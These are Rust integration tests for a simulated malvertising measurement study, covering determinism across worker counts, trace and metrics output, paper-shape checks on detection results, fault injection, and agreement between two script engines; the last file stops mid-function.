use malvertising::oracle::IncidentType;
use malvertising::trace::{
    LogHistogram, MetricsLog, MetricsRegistry, OracleComponent, SpanKind, TraceCollector,
    TraceReport,
};
use malvertising::types::CrawlSchedule;
use malvertising::websim::WebConfig;
use std::collections::BTreeSet;

fn config(seed: u64, workers: usize) -> StudyConfig {
    StudyConfig {
        seed,
        web: WebConfig {
            ranking_universe: 10_000,
            top_slice: 25,
            bottom_slice: 25,
            random_slice: 40,
            security_feed: 15,
            ad_network_count: 40,
            sandbox_adoption: 0.0,
        },
        crawl: CrawlConfig {
            schedule: CrawlSchedule::scaled(4, 2),
            workers,
            ..Default::default()
        },
        ..StudyConfig::default()
    }
}

fn traced_run(seed: u64, workers: usize) -> (Study, StudyResults, TraceReport) {
    let collector = TraceCollector::new();
    let study = Study::builder()
        .config(config(seed, workers))
        .trace(collector.sink())
        .build()
        .expect("no resume requested");
    let results = study.run();
    let report = collector.finish();
    (study, results, report)
}

#[test]
fn stripped_trace_byte_identical_across_worker_counts() {
    // The tentpole guarantee: stripping the wall envelopes leaves a payload
    // stream that is a pure function of the study seed — byte-identical
    // between a sequential run and an 8-worker run.
    let (_, a_results, a) = traced_run(90210, 1);
    let (_, b_results, b) = traced_run(90210, 8);
    assert_eq!(
        a.deterministic_jsonl(),
        b.deterministic_jsonl(),
        "stripped trace diverges across worker counts"
    );
    // And the traced results themselves agree with each other.
    assert_eq!(
        serde_json::to_string(&a_results.ads).unwrap(),
        serde_json::to_string(&b_results.ads).unwrap()
    );
    // The summaries with latencies layered in still strip to identical
    // deterministic residues (span counts survive; durations don't).
    assert_eq!(
        a_results.summary_with_trace(&a).without_timings().to_json(),
        b_results.summary_with_trace(&b).without_timings().to_json()
    );
}

#[test]
fn metered_and_traced_run_stays_deterministic() {
    // Trace and metrics ride the same run without perturbing each other:
    // both stripped streams stay byte-identical across worker counts, and
    // the corpus matches a bare run of the same seed.
    let run = |workers: usize| -> (StudyResults, TraceReport, MetricsLog) {
        let collector = TraceCollector::new();
        let metrics = MetricsRegistry::new();
        let study = Study::builder()
            .config(config(31337, workers))
            .trace(collector.sink())
            .metrics(metrics.clone())
            .build()
            .expect("no resume requested");
        let results = study.run();
        (results, collector.finish(), metrics.collect())
    };
    let (a_results, a_trace, a_metrics) = run(1);
    let (b_results, b_trace, b_metrics) = run(8);
    assert_eq!(a_trace.deterministic_jsonl(), b_trace.deterministic_jsonl());
    assert_eq!(
        a_metrics.deterministic_jsonl(),
        b_metrics.deterministic_jsonl()
    );
    assert!(!a_metrics.is_empty());
    assert_eq!(
        serde_json::to_string(&a_results.ads).unwrap(),
        serde_json::to_string(&b_results.ads).unwrap()
    );
    let bare = Study::builder()
        .config(config(31337, 8))
        .build()
        .expect("no resume requested")
        .run();
    assert_eq!(
        serde_json::to_string(&b_results.ads).unwrap(),
        serde_json::to_string(&bare.ads).unwrap()
    );
}

#[test]
fn traced_run_equals_untraced_run() {
    // Tracing is pure observation: it must not perturb the classification.
    let (_, traced, _) = traced_run(4242, 4);
    let untraced = Study::builder()
        .config(config(4242, 4))
        .build()
        .expect("no resume requested")
        .run();
    assert_eq!(
        serde_json::to_string(&traced.ads).unwrap(),
        serde_json::to_string(&untraced.ads).unwrap()
    );
}

#[test]
fn trace_covers_pipeline_and_joins_to_corpus() {
    let (study, results, report) = traced_run(777, 4);
    let events = report.events();

    // All four stage spans, on unit 0.
    for kind in [
        SpanKind::WorldBuild,
        SpanKind::Crawl,
        SpanKind::Classify,
        SpanKind::Aggregate,
    ] {
        assert_eq!(
            events.iter().filter(|e| e.kind == kind).count(),
            1,
            "expected exactly one {} stage span",
            kind.label()
        );
        assert!(events.iter().any(|e| e.kind == kind && e.unit == 0));
    }

    // One crawl-visit span per page load, one classify-ad span per unique
    // ad — the per-unit work spans tile the pipeline exactly.
    let count = |kind| events.iter().filter(|e| e.kind == kind).count() as u64;
    assert_eq!(count(SpanKind::CrawlVisit), results.page_loads);
    assert_eq!(count(SpanKind::ClassifyAd), results.unique_ads() as u64);
    assert_eq!(
        count(SpanKind::HoneyclientVisit),
        results.unique_ads() as u64
    );
    assert!(count(SpanKind::BlacklistLookup) > 0);

    // Incident events land on the flagged ad's creative-key unit, one per
    // incident the oracle raised.
    let creative_keys: BTreeSet<u64> = results.ads.iter().map(|a| a.creative_key).collect();
    let incident_events = report.incidents();
    let total_incidents: usize = results.ads.iter().map(|a| a.incidents.len()).sum();
    assert_eq!(incident_events.len(), total_incidents);
    assert!(total_incidents > 0, "no incidents to trace");
    for event in &incident_events {
        assert!(
            creative_keys.contains(&event.unit),
            "incident on unknown unit {:#x}",
            event.unit
        );
        assert!(event.provenance.is_some(), "incident without provenance");
    }

    // Provenance carries the actual evidence the component saw.
    let threshold = study.world.blacklists.threshold();
    let consensus = study.world.scanner.consensus();
    let mut blacklist_seen = false;
    for ad in &results.ads {
        for incident in &ad.incidents {
            let p = &incident.provenance;
            match incident.incident_type {
                IncidentType::Blacklists => {
                    blacklist_seen = true;
                    assert_eq!(p.component, OracleComponent::Blacklists);
                    assert!(p.matched_feeds.len() > threshold, "below feed threshold");
                    let hop = p.chain_hop.expect("blacklist incidents are per-host") as usize;
                    assert!(hop < ad.contacted_hosts.len(), "hop outside the ad path");
                }
                IncidentType::MaliciousExecutables | IncidentType::MaliciousFlash => {
                    assert_eq!(p.component, OracleComponent::Scanner);
                    assert!(p.engine_votes.len() >= consensus, "below engine consensus");
                }
                IncidentType::ModelDetection => {
                    assert_eq!(p.component, OracleComponent::ModelDb);
                }
                _ => {
                    assert_eq!(p.component, OracleComponent::Honeyclient);
                }
            }
        }
    }
    assert!(blacklist_seen, "no blacklist incident in the sample");
}

#[test]
fn latencies_layer_into_summary_and_exports_round_trip() {
    let (_, results, report) = traced_run(1001, 4);
    let summary = results.summary_with_trace(&report);

    let merged = |kind| {
        summary
            .latencies
            .iter()
            .find(|l| l.kind == kind && l.worker.is_none())
            .expect("merged latency entry")
    };
    assert_eq!(
        merged(SpanKind::ClassifyAd).hist.count(),
        results.unique_ads() as u64
    );
    assert_eq!(
        merged(SpanKind::CrawlVisit).hist.count(),
        results.page_loads
    );
    // Per-worker entries exist and re-merge to the combined histogram.
    let mut remerged = LogHistogram::new();
    for l in summary
        .latencies
        .iter()
        .filter(|l| l.kind == SpanKind::ClassifyAd && l.worker.is_some())
    {
        remerged.merge(&l.hist);
    }
    assert_eq!(&remerged, &merged(SpanKind::ClassifyAd).hist);

    // JSONL round-trips the full event stream.
    let back = TraceReport::from_jsonl(&report.to_jsonl()).unwrap();
    assert_eq!(back.events(), report.events());

    // The Chrome trace is an array of {name, ph, ts, pid, tid} entries.
    let chrome: serde_json::Value = serde_json::from_str(&report.to_chrome_trace()).unwrap();
    let entries = chrome.as_array().expect("chrome trace is an array");
    assert_eq!(entries.len(), report.events().len());
    for entry in entries {
        for key in ["name", "ph", "ts", "pid", "tid"] {
            assert!(entry.get(key).is_some(), "chrome entry missing {key}");
        }
    }
}

#[test]
fn histogram_merge_is_associative_and_commutative() {
    // Sharded recording depends on merge order not mattering: merging
    // per-worker histograms in any grouping yields the same buckets.
    let values: Vec<u64> = (0u64..600)
        .map(|i| i.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 40)
        .collect();
    let record = |chunk: &[u64]| {
        let mut h = LogHistogram::new();
        for &v in chunk {
            h.record_us(v);
        }
        h
    };
    let (a, b, c) = (
        record(&values[..200]),
        record(&values[200..400]),
        record(&values[400..]),
    );

    let mut left = a.clone();
    left.merge(&b);
    left.merge(&c);
    let mut bc = b.clone();
    bc.merge(&c);
    let mut right = a.clone();
    right.merge(&bc);
    assert_eq!(left, right, "merge is not associative");

    let mut ab = a.clone();
    ab.merge(&b);
    let mut ba = b.clone();
    ba.merge(&a);
    assert_eq!(ab, ba, "merge is not commutative");

    let whole = record(&values);
    assert_eq!(left, whole, "sharded recording diverges from one-shot");
    assert_eq!(whole.count(), 600);
}
