//! End-to-end integration: the full pipeline produces the paper's shapes.

use malvertising::core::study::{Study, StudyConfig, StudyResults};
use malvertising::core::{analysis, report};
use malvertising::crawler::CrawlConfig;
use malvertising::oracle::IncidentType;
use malvertising::types::CrawlSchedule;
use malvertising::websim::WebConfig;
use std::sync::OnceLock;

/// One shared study for the whole file (it is the expensive part).
fn shared() -> &'static (Study, StudyResults) {
    static CELL: OnceLock<(Study, StudyResults)> = OnceLock::new();
    CELL.get_or_init(|| {
        let config = StudyConfig {
            seed: 777,
            web: WebConfig {
                ranking_universe: 50_000,
                top_slice: 80,
                bottom_slice: 80,
                random_slice: 160,
                security_feed: 40,
                ad_network_count: 40,
                sandbox_adoption: 0.0,
            },
            crawl: CrawlConfig {
                schedule: CrawlSchedule::scaled(8, 2),
                workers: 8,
                ..Default::default()
            },
            ..StudyConfig::default()
        };
        let study = Study::builder()
            .config(config)
            .build()
            .expect("no resume requested");
        let results = study.run();
        (study, results)
    })
}

#[test]
fn corpus_scale_sane() {
    let (study, results) = shared();
    // Every site visited on schedule.
    let expected_loads = study.config.web.total_sites() as u64
        * study.config.crawl.schedule.loads_per_site();
    assert_eq!(results.page_loads, expected_loads);
    // Ads repeat heavily: far fewer unique ads than observations.
    assert!(results.unique_ads() > 300);
    assert!(results.total_observations > 4 * results.unique_ads() as u64);
}

#[test]
fn table1_shape_matches_paper() {
    let (_, results) = shared();
    let t = analysis::table1(results);
    // Rows are exclusive and sum to the total.
    assert_eq!(t.rows.iter().map(|(_, c)| c).sum::<usize>(), t.total);
    // Blacklists dominate; suspicious redirections second — the paper's
    // ordering (4794 > 1396 > 309 > 68 > 31 > 3).
    let get = |label: &str| {
        t.rows
            .iter()
            .find(|(l, _)| l == label)
            .map(|(_, c)| *c)
            .unwrap()
    };
    let blacklists = get("Blacklists");
    let redirects = get("Suspicious redirections");
    assert!(blacklists > redirects, "{:?}", t.rows);
    assert!(redirects >= get("Heuristics"), "{:?}", t.rows);
    // Roughly 1% of the corpus is malicious (paper: "about 1%").
    assert!(
        t.malicious_fraction > 0.002 && t.malicious_fraction < 0.06,
        "malicious fraction {}",
        t.malicious_fraction
    );
}

#[test]
fn fig1_fig2_tell_the_papers_story() {
    let (study, results) = shared();
    let fig1 = analysis::fig1_network_ratios(results, &study.world);
    let fig2 = analysis::fig2_network_volume(results, &study.world);
    assert!(!fig1.is_empty());
    // The worst offenders are small networks: the top of Figure 1 must not
    // be a major exchange.
    let worst = &fig1[0];
    let tier = study.world.ads.networks()[worst.network.index()].tier;
    assert_ne!(tier, malvertising::adnet::NetworkTier::Major);
    // Figure 2: most flagged networks are small (<5% of traffic)...
    let small = fig2.iter().filter(|r| r.share < 0.05).count();
    assert!(small as f64 > fig2.len() as f64 * 0.6);
    // ...but the designated hotspot shows up with a visible share.
    let hotspot = fig2.iter().find(|r| r.is_hotspot);
    if let Some(h) = hotspot {
        assert!(h.share > 0.01, "hotspot share {:.4}", h.share);
        assert!(h.malicious > 0);
    }
}

#[test]
fn cluster_split_top_dominates() {
    let (study, results) = shared();
    let split = analysis::cluster_split(results, &study.world);
    // Paper: top-10k cluster served 82.3% of malverts and 76.6% of ads.
    let top = &split.rows[0];
    assert_eq!(top.0, "top-10k");
    assert!(top.1 > 0.5, "top malvert share {:.3}", top.1);
    assert!(top.2 > 0.5, "top ad share {:.3}", top.2);
    // The two shares track each other (the paper's conclusion: miscreants
    // follow volume, not specific sites).
    assert!((top.1 - top.2).abs() < 0.25);
}

#[test]
fn fig4_generic_tlds_dominate() {
    let (study, results) = shared();
    let (rows, generic_share) = analysis::fig4_tlds(results, &study.world);
    assert!(!rows.is_empty());
    // Paper: gTLDs carry more than 66% of malvertising hosts; we accept a
    // small-sample band around it.
    assert!(generic_share > 0.55, "generic share {generic_share:.3}");
    // .com leads.
    assert_eq!(rows[0].tld, ".com");
}

#[test]
fn fig5_malicious_chains_longer() {
    let (_, results) = shared();
    let hist = analysis::fig5_chains(results);
    let benign_total: u64 = hist.benign.values().sum();
    let mal_total: u64 = hist.malicious.values().sum();
    assert!(benign_total > 0 && mal_total > 0);
    // Expected chain length is higher for malicious ads.
    let mean = |m: &std::collections::BTreeMap<usize, u64>| {
        let total: u64 = m.values().sum();
        m.iter().map(|(len, c)| *len as f64 * *c as f64).sum::<f64>() / total as f64
    };
    assert!(
        mean(&hist.malicious) > mean(&hist.benign) + 0.5,
        "malicious {} vs benign {}",
        mean(&hist.malicious),
        mean(&hist.benign)
    );
}

#[test]
fn sandbox_never_used() {
    let (_, results) = shared();
    let s = analysis::sandbox_usage(results);
    assert!(s.total_iframes > 1000);
    assert_eq!(s.sandboxed, 0);
}

#[test]
fn detection_quality_against_ground_truth() {
    let (_, results) = shared();
    let (mut tp, mut fp, mut fn_) = (0usize, 0usize, 0usize);
    for ad in &results.ads {
        match (ad.truly_malicious, ad.category.is_some()) {
            (true, true) => tp += 1,
            (false, true) => fp += 1,
            (true, false) => fn_ += 1,
            _ => {}
        }
    }
    assert!(tp > 10, "tp={tp}");
    let precision = tp as f64 / (tp + fp).max(1) as f64;
    let recall = tp as f64 / (tp + fn_).max(1) as f64;
    assert!(precision > 0.9, "precision {precision:.3} (fp={fp})");
    assert!(recall > 0.6, "recall {recall:.3} (fn={fn_})");
}

#[test]
fn incident_categories_only_on_detected() {
    let (_, results) = shared();
    for ad in &results.ads {
        match &ad.category {
            Some(c) => {
                assert!(IncidentType::ALL.contains(c));
                assert!(!ad.incidents.is_empty());
            }
            None => assert!(ad.incidents.is_empty()),
        }
    }
}

#[test]
fn category_provenance_matches_campaign_types() {
    // Each Table 1 row must trace back to the campaign behaviours that can
    // mechanically produce it.
    use malvertising::adnet::CampaignBehavior;
    let (study, results) = shared();
    for ad in results.detected_ads() {
        let Some(campaign_id) = ad.truth_campaign else {
            continue;
        };
        let behavior = &study.world.ads.campaigns()[campaign_id.index()].behavior;
        match ad.category.unwrap() {
            IncidentType::SuspiciousRedirections => {
                // Hijacks, or cloaked drive-bys that bounced.
                assert!(
                    matches!(
                        behavior,
                        CampaignBehavior::Hijack { .. } | CampaignBehavior::DriveBy { .. }
                    ),
                    "SR from {behavior:?}"
                );
            }
            IncidentType::Heuristics => {
                assert!(
                    matches!(behavior, CampaignBehavior::DriveBy { .. }),
                    "Heuristics from {behavior:?}"
                );
            }
            IncidentType::MaliciousExecutables => {
                // Deceptive installers, or drive-by exe drops that evaded
                // both the feeds and the probe heuristic.
                assert!(
                    matches!(
                        behavior,
                        CampaignBehavior::Deceptive { .. } | CampaignBehavior::DriveBy { .. }
                    ),
                    "Exe from {behavior:?}"
                );
            }
            IncidentType::MaliciousFlash => {
                assert!(
                    matches!(behavior, CampaignBehavior::DriveBy { .. }),
                    "Flash from {behavior:?}"
                );
            }
            IncidentType::ModelDetection => {
                assert!(
                    !matches!(behavior, CampaignBehavior::Benign { .. }),
                    "model matched a benign campaign"
                );
            }
            IncidentType::Blacklists => {
                // Any malicious campaign type can land here.
            }
        }
    }
}

#[test]
fn reports_render_without_panicking() {
    let (study, results) = shared();
    let _ = report::render_table1(&analysis::table1(results));
    let _ = report::render_fig1(&analysis::fig1_network_ratios(results, &study.world));
    let _ = report::render_fig2(&analysis::fig2_network_volume(results, &study.world));
    let _ = report::render_cluster_split(&analysis::cluster_split(results, &study.world));
    let _ = report::render_fig3(&analysis::fig3_categories(results, &study.world));
    let (rows, g) = analysis::fig4_tlds(results, &study.world);
    let _ = report::render_fig4(&rows, g);
    let _ = report::render_fig5(&analysis::fig5_chains(results));
    let _ = report::render_sandbox(&analysis::sandbox_usage(results));
}
