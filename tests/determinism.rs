//! Determinism integration: a study is a pure function of its seed,
//! regardless of worker count, and different seeds produce different worlds.

use malvertising::core::analysis;
use malvertising::core::study::{Study, StudyConfig};
use malvertising::crawler::CrawlConfig;
use malvertising::types::CrawlSchedule;
use malvertising::websim::WebConfig;

fn config(seed: u64, workers: usize) -> StudyConfig {
    StudyConfig {
        seed,
        web: WebConfig {
            ranking_universe: 10_000,
            top_slice: 25,
            bottom_slice: 25,
            random_slice: 40,
            security_feed: 15,
            ad_network_count: 40,
            sandbox_adoption: 0.0,
        },
        crawl: CrawlConfig {
            schedule: CrawlSchedule::scaled(4, 2),
            workers,
            ..Default::default()
        },
        ..StudyConfig::default()
    }
}

/// Every study in this file goes through the builder front door.
fn study(seed: u64, workers: usize) -> Study {
    Study::builder()
        .config(config(seed, workers))
        .build()
        .expect("no resume requested")
}

#[test]
fn same_seed_same_results_across_worker_counts() {
    let a = study(31337, 1).run();
    let b = study(31337, 8).run();
    assert_eq!(a.unique_ads(), b.unique_ads());
    assert_eq!(a.total_observations, b.total_observations);
    assert_eq!(a.iframe_census, b.iframe_census);
    for (x, y) in a.ads.iter().zip(&b.ads) {
        assert_eq!(x.request_url, y.request_url);
        assert_eq!(x.first_seen, y.first_seen);
        assert_eq!(x.observations, y.observations);
        assert_eq!(x.category, y.category);
        assert_eq!(x.max_chain_len, y.max_chain_len);
        assert_eq!(x.truth_campaign, y.truth_campaign);
        assert_eq!(x.sites, y.sites);
    }
    // Analyses agree too.
    let ta = analysis::table1(&a);
    let tb = analysis::table1(&b);
    assert_eq!(ta.rows, tb.rows);
}

#[test]
fn results_byte_identical_across_worker_counts() {
    // The strong form: the serialized corpus and the (timing-stripped) run
    // summary must agree byte-for-byte between a sequential run and an
    // 8-worker run, across both the crawl and parallel classification.
    let a = study(90210, 1).run();
    let b = study(90210, 8).run();
    let a_ads = serde_json::to_string(&a.ads).expect("serializable");
    let b_ads = serde_json::to_string(&b.ads).expect("serializable");
    assert_eq!(a_ads, b_ads, "classified ads diverge across worker counts");
    assert_eq!(
        a.summary().without_timings().to_json(),
        b.summary().without_timings().to_json(),
        "run summaries diverge across worker counts"
    );
}

#[test]
fn incident_provenance_byte_identical_across_worker_counts() {
    // Provenance is part of the deterministic payload: the component, hop,
    // and evidence lists attached to every incident must agree byte-for-byte
    // between a sequential run and an 8-worker run.
    let a = study(31337, 1).run();
    let b = study(31337, 8).run();
    let provenances = |results: &malvertising::core::study::StudyResults| -> Vec<String> {
        results
            .ads
            .iter()
            .flat_map(|ad| {
                ad.incidents
                    .iter()
                    .map(|i| serde_json::to_string(&i.provenance).expect("serializable"))
            })
            .collect()
    };
    let pa = provenances(&a);
    assert_eq!(pa, provenances(&b), "provenance diverges across worker counts");
    assert!(!pa.is_empty(), "no incidents carried provenance");
    assert!(
        pa.iter().any(|p| p.contains("\"component\":\"blacklists\"")),
        "no blacklist-attributed incident in the sample"
    );
}

#[test]
fn memoized_crawl_identical_across_worker_counts_and_memo_sizes() {
    use malvertising::crawler::Crawler;
    let study = study(4242, 1);
    let crawl_rows = |workers: usize, filter_memo: usize| -> Vec<(u32, String, String, String)> {
        let crawler = Crawler::builder(&study.world.network, &study.world.filter)
            .config(CrawlConfig {
                schedule: CrawlSchedule::scaled(4, 2),
                workers,
                filter_memo,
                ..Default::default()
            })
            .seeds(study.world.tree)
            .build();
        let mut rows = Vec::new();
        crawler.run(&study.world.web.sites, |record| {
            for ad in &record.ads {
                rows.push((
                    ad.site.0,
                    ad.time.to_string(),
                    ad.request_url.to_string(),
                    ad.matched_rule.clone(),
                ));
            }
        });
        rows.sort();
        rows
    };
    // A tiny memo forces evictions mid-crawl; both memoization and the
    // worker count must be invisible in the crawl output, down to which
    // rule text each observation matched.
    let baseline = crawl_rows(1, 0);
    assert!(!baseline.is_empty(), "crawl produced no ad observations");
    assert_eq!(baseline, crawl_rows(1, 64));
    assert_eq!(baseline, crawl_rows(8, 64));
    assert_eq!(baseline, crawl_rows(8, 4096));
}

#[test]
fn staged_pipeline_equals_run() {
    let study = study(777, 4);
    let via_run = study.run();
    let via_stages = study.classify(study.crawl());
    assert_eq!(
        serde_json::to_string(&via_run.ads).unwrap(),
        serde_json::to_string(&via_stages.ads).unwrap()
    );
    assert_eq!(
        via_run.summary().without_timings().to_json(),
        via_stages.summary().without_timings().to_json()
    );
}

#[test]
fn filter_memo_invisible_in_study_results() {
    // The per-worker match memo is purely a speed knob: a run with it
    // disabled and a run with the default capacity produce byte-identical
    // classified ads and (timing-stripped) run summaries. `filter_lookups`
    // survives the stripping, so this also pins lookup-count parity.
    let mut with_memo = config(2718, 8);
    with_memo.crawl.filter_memo = 4096;
    let mut without_memo = config(2718, 8);
    without_memo.crawl.filter_memo = 0;
    let build = |cfg| {
        Study::builder()
            .config(cfg)
            .build()
            .expect("no resume requested")
    };
    let a = build(with_memo).run();
    let b = build(without_memo).run();
    assert_eq!(
        serde_json::to_string(&a.ads).unwrap(),
        serde_json::to_string(&b.ads).unwrap(),
        "classified ads diverge with the filter memo disabled"
    );
    assert_eq!(
        a.summary().without_timings().to_json(),
        b.summary().without_timings().to_json(),
        "run summaries diverge with the filter memo disabled"
    );
    assert!(a.summary().counters.filter_cache_hits > 0, "memo never hit");
    assert_eq!(b.summary().counters.filter_cache_hits, 0);
}

#[test]
fn script_cache_invisible_in_study_results() {
    // The compile cache is purely a speed knob: every cache size in
    // {disabled, pathological single entry, default} at every worker count
    // in {1, 8} produces byte-identical classified ads and
    // (timing-stripped) run summaries. `script_lookups` survives the
    // stripping, so this also pins compile-attempt parity; the
    // scheduling-dependent hit/miss split is zeroed by `without_timings`.
    let run = |workers: usize, script_cache: usize| {
        let mut cfg = config(1618, workers);
        cfg.crawl.script_cache = script_cache;
        Study::builder()
            .config(cfg)
            .build()
            .expect("no resume requested")
            .run()
    };
    let baseline = run(1, 0);
    let base_ads = serde_json::to_string(&baseline.ads).unwrap();
    let base_summary = baseline.summary().without_timings().to_json();
    for (workers, cache) in [(1, 1), (1, 4096), (8, 0), (8, 1), (8, 4096)] {
        let r = run(workers, cache);
        assert_eq!(
            serde_json::to_string(&r.ads).unwrap(),
            base_ads,
            "classified ads diverge at workers={workers} script_cache={cache}"
        );
        assert_eq!(
            r.summary().without_timings().to_json(),
            base_summary,
            "run summaries diverge at workers={workers} script_cache={cache}"
        );
    }
    assert!(
        baseline.summary().counters.script_lookups > 0,
        "study never attempted a script compile"
    );
    assert_eq!(baseline.summary().counters.script_cache_hits, 0);
    assert!(
        run(8, 4096).summary().counters.script_cache_hits > 0,
        "default-capacity cache never hit"
    );
}

#[test]
fn chaos_profiles_deterministic_across_worker_counts() {
    // The fault-injection matrix: for every chaos profile, a sequential run
    // and an 8-worker run produce byte-identical classified ads and
    // (timing-stripped) run summaries — fault draws are a pure function of
    // `(seed, time, url)`, never of scheduling. An explicit `none` must
    // also match the no-knob baseline byte for byte.
    use malvertising::net::FaultProfile;

    let run = |faults: Option<FaultProfile>, workers: usize| {
        let mut cfg = config(60606, workers);
        cfg.faults = faults;
        Study::builder()
            .config(cfg)
            .build()
            .expect("no resume requested")
            .run()
    };
    let baseline = run(None, 1);
    let base_summary = baseline.summary().without_timings().to_json();

    for profile in ["none", "light", "heavy"] {
        let faults = FaultProfile::named(profile);
        let a = run(faults, 1);
        let b = run(faults, 8);
        assert_eq!(
            serde_json::to_string(&a.ads).unwrap(),
            serde_json::to_string(&b.ads).unwrap(),
            "classified ads diverge across worker counts under `{profile}` faults"
        );
        let a_summary = a.summary().without_timings().to_json();
        assert_eq!(
            a_summary,
            b.summary().without_timings().to_json(),
            "run summaries diverge across worker counts under `{profile}` faults"
        );
        if profile == "none" {
            assert_eq!(
                a_summary, base_summary,
                "explicit `none` differs from the no-knob baseline"
            );
        } else {
            let errors = a.summary().counters.errors;
            assert!(
                errors.total_errors() > 0,
                "`{profile}` faults injected no errors"
            );
            // Graceful degradation: faults cost individual visits at worst;
            // the corpus still exists and the run finished (we got here).
            assert!(
                a.unique_ads() > 0,
                "`{profile}` faults destroyed the whole corpus"
            );
        }
    }
    // Faults change observable results: the heavy profile must not be a
    // no-op relative to the clean baseline.
    assert_ne!(
        run(FaultProfile::named("heavy"), 1)
            .summary()
            .without_timings()
            .to_json(),
        base_summary,
        "heavy faults left the run summary untouched"
    );
    // A clean run's error counters are all-zero.
    assert!(baseline.summary().counters.errors.is_clean());
}

#[test]
fn different_seeds_differ() {
    let a = study(1, 4).run();
    let b = study(2, 4).run();
    // Different worlds: corpora differ (domains, creatives, everything).
    let a_urls: std::collections::BTreeSet<_> =
        a.ads.iter().map(|ad| ad.request_url.clone()).collect();
    let b_urls: std::collections::BTreeSet<_> =
        b.ads.iter().map(|ad| ad.request_url.clone()).collect();
    assert!(a_urls.intersection(&b_urls).count() < a_urls.len() / 10);
}

#[test]
fn rerun_same_study_object_is_stable() {
    let study = study(55, 4);
    let a = study.run();
    let b = study.run();
    assert_eq!(a.unique_ads(), b.unique_ads());
    for (x, y) in a.ads.iter().zip(&b.ads) {
        assert_eq!(x.request_url, y.request_url);
        assert_eq!(x.incidents, y.incidents);
    }
}
