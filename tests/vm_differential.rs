//! Cross-engine differential suite: the bytecode VM and the retained
//! tree-walk oracle must be observably indistinguishable.
//!
//! Two levels of evidence:
//!
//! * **Page level** — served pages embedding the `bench::synth` script
//!   corpora, visited once per engine through the full emulated browser.
//!   The entire [`PageVisit`] must agree: final markup (the scripts
//!   `document.write` their computed state into the DOM), behaviour
//!   events, beacon traffic, cookies' downstream effects, error
//!   accounting. A fixed test covers the committed benchmark corpus; a
//!   proptest sweeps random corpus seeds.
//! * **Study level** — the timing-stripped run summary and the serialized
//!   ad corpus must be byte-identical across engine × worker count ×
//!   fault profile. The engine knob travels the same `StudyBuilder` front
//!   door every production caller uses.

use malvertising::adscript::ScriptEngine;
use malvertising::bench::synth::{synthetic_exec_scripts, synthetic_scripts};
use malvertising::browser::{Browser, BrowserLimits, PageVisit, Personality};
use malvertising::core::study::{Study, StudyConfig};
use malvertising::crawler::CrawlConfig;
use malvertising::net::{Body, FaultProfile, HttpRequest, HttpResponse, Network, ServeCtx};
use malvertising::types::rng::SeedTree;
use malvertising::types::{CrawlSchedule, DomainName, SimTime, Url};
use malvertising::websim::WebConfig;
use proptest::prelude::*;
use std::sync::Arc;

/// Wraps each script in a page that makes its computed state observable at
/// the page level: the footer script writes the `out` global into the DOM,
/// fires a beacon whose URL embeds it, and stores it as a cookie. Any
/// engine divergence in the script's result therefore shows up in the
/// visit's markup, events, and captured traffic — not just in an
/// interpreter-internal global.
fn page_for(script: &str) -> String {
    format!(
        "<html><body><script>{script}</script>\
         <script>\
         document.cookie = 'r=' + out;\
         var img = new Image(); img.src = 'http://px.differential.com/p?v=' + out;\
         document.write('<div>' + out + '</div>');\
         </script></body></html>"
    )
}

/// A network serving one page per corpus script on `creatives.com/<n>`,
/// plus the beacon collector the footer scripts hit.
fn serve_corpus(scripts: Vec<String>, seed: u64) -> Network {
    let mut network = Network::new(SeedTree::new(seed));
    let pages: Arc<Vec<String>> = Arc::new(scripts.iter().map(|s| page_for(s)).collect());
    let server = move |req: &HttpRequest, _ctx: &mut ServeCtx| {
        let idx: usize = req.url.path().trim_start_matches('/').parse().unwrap_or(0);
        HttpResponse::ok(Body::Html(pages[idx % pages.len()].clone()))
    };
    network.register(
        DomainName::parse("creatives.com").expect("static host"),
        Arc::new(server),
    );
    network.register(
        DomainName::parse("px.differential.com").expect("static host"),
        Arc::new(|_req: &HttpRequest, _ctx: &mut ServeCtx| {
            HttpResponse::ok(Body::Html(String::new()))
        }),
    );
    network
}

/// Visits script `idx` of the served corpus with the given engine.
fn visit_with(network: &Network, idx: usize, engine: ScriptEngine) -> PageVisit {
    let browser = Browser::new(
        network,
        Personality::vulnerable_victim(),
        BrowserLimits::default(),
        SeedTree::new(0xD1FF),
    )
    .script_engine(engine);
    let url = Url::parse(&format!("http://creatives.com/{idx}")).expect("static URL");
    browser.visit(&url, SimTime::ZERO)
}

/// Asserts both engines produce the identical visit for every script of a
/// corpus, and that the visits actually exercised the scripts (the pages
/// rendered, wrote markup, and fired beacons).
fn assert_corpus_agrees(scripts: Vec<String>, seed: u64) {
    let count = scripts.len();
    let network = serve_corpus(scripts, seed);
    for idx in 0..count {
        let tw = visit_with(&network, idx, ScriptEngine::TreeWalk);
        let vm = visit_with(&network, idx, ScriptEngine::Vm);
        assert!(
            !tw.events.is_empty() && tw.capture.len() >= 2,
            "script {idx} of corpus {seed:#x} produced no observable effects"
        );
        assert_eq!(
            format!("{tw:?}"),
            format!("{vm:?}"),
            "engines render different visits for script {idx} of corpus {seed:#x}"
        );
    }
}

#[test]
fn engines_agree_on_the_committed_benchmark_corpora() {
    // The exact corpora the Criterion groups and `malvert bench-json` time.
    assert_corpus_agrees(synthetic_exec_scripts(8, 0xE8EC), 0xE8EC);
    assert_corpus_agrees(synthetic_scripts(8, 0xADC0), 0xADC0);
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 16,
        ..ProptestConfig::default()
    })]

    /// Random corpus seeds: one execution-heavy and one parse-heavy script
    /// per case, both served and visited through the full browser on both
    /// engines.
    #[test]
    fn engines_agree_on_seeded_corpora(seed in 0u64..(1 << 32)) {
        let mut scripts = synthetic_exec_scripts(1, seed);
        scripts.extend(synthetic_scripts(1, seed ^ 0x5EED));
        assert_corpus_agrees(scripts, seed);
    }
}

/// A small-but-real study configuration for the engine matrix.
fn study_config(workers: usize, engine: ScriptEngine, faults: Option<FaultProfile>) -> StudyConfig {
    StudyConfig {
        seed: 20140814,
        web: WebConfig {
            ranking_universe: 10_000,
            top_slice: 15,
            bottom_slice: 15,
            random_slice: 25,
            security_feed: 10,
            ad_network_count: 40,
            sandbox_adoption: 0.0,
        },
        crawl: CrawlConfig {
            schedule: CrawlSchedule::scaled(3, 2),
            workers,
            script_engine: engine,
            ..Default::default()
        },
        faults,
        ..StudyConfig::default()
    }
}

/// The deterministic payload of a run: serialized corpus + timing-stripped
/// summary (engine-dependent VM counters are part of what
/// `without_timings` strips, by design).
fn payload(workers: usize, engine: ScriptEngine, faults: Option<FaultProfile>) -> (String, String) {
    let results = Study::builder()
